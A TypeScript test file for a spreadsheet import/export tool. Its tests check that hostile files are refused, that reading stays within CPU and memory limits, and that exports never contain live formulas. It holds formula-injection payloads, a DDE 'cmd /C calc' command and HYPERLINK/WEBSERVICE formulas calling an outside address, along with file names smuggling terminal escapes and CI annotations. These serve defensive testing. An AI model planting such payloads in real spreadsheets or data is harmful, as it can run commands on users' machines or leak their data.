import { execFile, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { buildSync } from 'esbuild';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readSheets } from '../../src/sheets/read-sheets.js';
import { planOf } from '../books/hostile.js';
import { repository } from '../cli/run.js';
import { problemOf } from '../sheets/reading.js';
import { masterplan, projectOf } from './masterplan.js';
import { contents, texts } from './sheet-contents.js';
import type { HostileFile } from './sheet-making.js';
import { lines, others, packages } from './sheet-packages.js';

/** What reading one file may cost. */
const MOST = { seconds: 2, mebibytes: 256 };

const all: readonly HostileFile[] = [...packages, ...texts, ...contents, ...others, ...lines];

const refused = all.filter(({ problem, isCostly }) => problem !== undefined && !isCostly);

describe('a file that means harm or is none', () => {
  it.each(refused)('is refused for what it is: $name', async ({ bytes, problem }) => {
    const error = await problemOf(bytes());
    expect(error?.problem).toBe(problem);
    for (const text of [error?.text.id, error?.text.en]) expect(text).toMatch(/^\S.* \S.*\.$/);
  });

  it('is told by the command with exit code 2, in both languages, and changes nothing', async () => {
    const folder = projectOf({});
    const inbox = join(folder, 'masuk');
    mkdirSync(inbox);
    refused.forEach(({ bytes }, index) => {
      writeFileSync(join(inbox, `${index}\u001b[31m ::error::\n${index}.xlsx`), bytes());
    });
    const before = readFileSync(join(folder, 'masterplan.yaml'));
    for (const [language, words] of [
      ['id', /Simpan Sebagai/],
      ['en', /Save As/],
    ] as const) {
      const answer = await masterplan('import', inbox, '--to', folder, '--write', '--lang', language);
      expect(answer.code).toBe(2);
      expect(answer.stdout).toMatch(words);
      for (const index of refused.keys()) expect(answer.stdout).toContain(`${index}\\u{1b}[31m`);
    }
    expect(readFileSync(join(folder, 'masterplan.yaml'))).toEqual(before);
  });
});

describe('in a process of its own, within 2 seconds of CPU and 256 MiB', () => {
  const costly = all.filter(({ isCostly }) => isCostly);
  let folder = '';
  afterAll(() => rmSync(folder, { recursive: true, force: true }));
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'masterplan-'));
    // The reader as it is delivered, bundled; VmHWM is the greatest resident set of this program alone.
    const contents = `
      import { readFileSync } from 'node:fs';
      import { readSheets } from './src/sheets/read-sheets.js';
      readSheets(readFileSync(process.argv[2]), 'a.xlsx')
        .then((grids) => grids.reduce((sum, { rows }) => sum + rows.length, 0), ({ problem }) => problem)
        .then((answer) => {
          const { userCPUTime, systemCPUTime } = process.resourceUsage();
          const peak = Number(/VmHWM:\\s+(\\d+)/.exec(readFileSync('/proc/self/status', 'latin1'))[1]);
          console.log(JSON.stringify({ answer, seconds: (userCPUTime + systemCPUTime) / 1e6, mebibytes: peak / 1024 }));
        });`;
    buildSync({
      stdin: { contents, resolveDir: repository, loader: 'ts' },
      bundle: true,
      platform: 'node',
      format: 'cjs',
      outfile: join(folder, 'reader.cjs'),
    });
  });

  it.each(costly)('$name is read or refused', ({ bytes, problem, rows }) => {
    const path = join(folder, 'file');
    writeFileSync(path, bytes());
    const { stdout, stderr, status } = spawnSync(process.execPath, [join(folder, 'reader.cjs'), path], {
      encoding: 'utf8',
    });
    expect([status, stderr]).toEqual([0, '']);
    const { answer, seconds, mebibytes } = JSON.parse(stdout);
    expect(answer).toBe(problem ?? rows);
    expect(seconds).toBeLessThan(MOST.seconds);
    expect(mebibytes).toBeLessThan(MOST.mebibytes);
  });
});

/** Texts that a spreadsheet would reckon, open or send, were they typed into it. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://192.0.2.1/"&A1;"klik")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '=WEBSERVICE("http://192.0.2.1/")',
  '1;=1+1',
  '",=1+1',
  "'=1+1",
];

/** A project whose free texts are these, in turn. */
function projectOfFormulas(): string {
  let count = 0;
  const plan = JSON.stringify(planOf('KATA')).replaceAll('"KATA"', () =>
    JSON.stringify(FORMULAS[count++ % FORMULAS.length]),
  );
  expect(count).toBeGreaterThan(5 * FORMULAS.length);
  return projectOf({ 'masterplan.yaml': plan });
}

it('no cell of what is written for spreadsheets is ever a formula, as written and as LibreOffice opens it', async () => {
  const folder = projectOfFormulas();
  const out = join(folder, 'keluar');
  expect(
    (await masterplan('export', 'data', folder, '--format', 'csv,xlsx', '--out', join(out, 'data'))).code,
  ).toBe(0);
  expect((await masterplan('export', 'forms', folder, '--out', join(out, 'formulir'))).code).toBe(0);
  const files = readdirSync(out, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && /\.(?:csv|xlsx)$/.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name));
  const workbooks = files.filter((name) => name.endsWith('.xlsx'));
  expect([workbooks.length > 2, files.length - workbooks.length > 10]).toEqual([true, true]);
  for (const name of workbooks) {
    for (const [part, content] of Object.entries(unzipSync(readFileSync(name)))) {
      if (part.startsWith('xl/worksheets/'))
        expect(strFromU8(content), `${name} ${part}`).not.toMatch(/<(?:\w+:)?f[\s>/]/);
    }
  }
  const opened = join(folder, 'dibuka');
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profil')).href}`;
  await promisify(execFile)(
    'soffice',
    [profile, '--headless', '--convert-to', 'xlsx:Calc MS Excel 2007 XML', '--outdir', opened, ...files],
    { timeout: 120_000 },
  );
  const seen = new Set<string>();
  for (const name of readdirSync(opened)) {
    for (const { rows } of await readSheets(readFileSync(join(opened, name)), name)) {
      const cells = rows.flatMap((row) => row.cells.filter((cell) => cell !== undefined));
      expect(
        cells.filter(({ formula, kind }) => formula !== undefined || kind === 'error'),
        name,
      ).toEqual([]);
      for (const { text } of cells) seen.add(text.replace(/^'+/, ''));
    }
  }
  // They did come through, as words.
  for (const text of FORMULAS) expect(seen).toContain(text.trim().replace(/^'+/, ''));
}, 120_000);
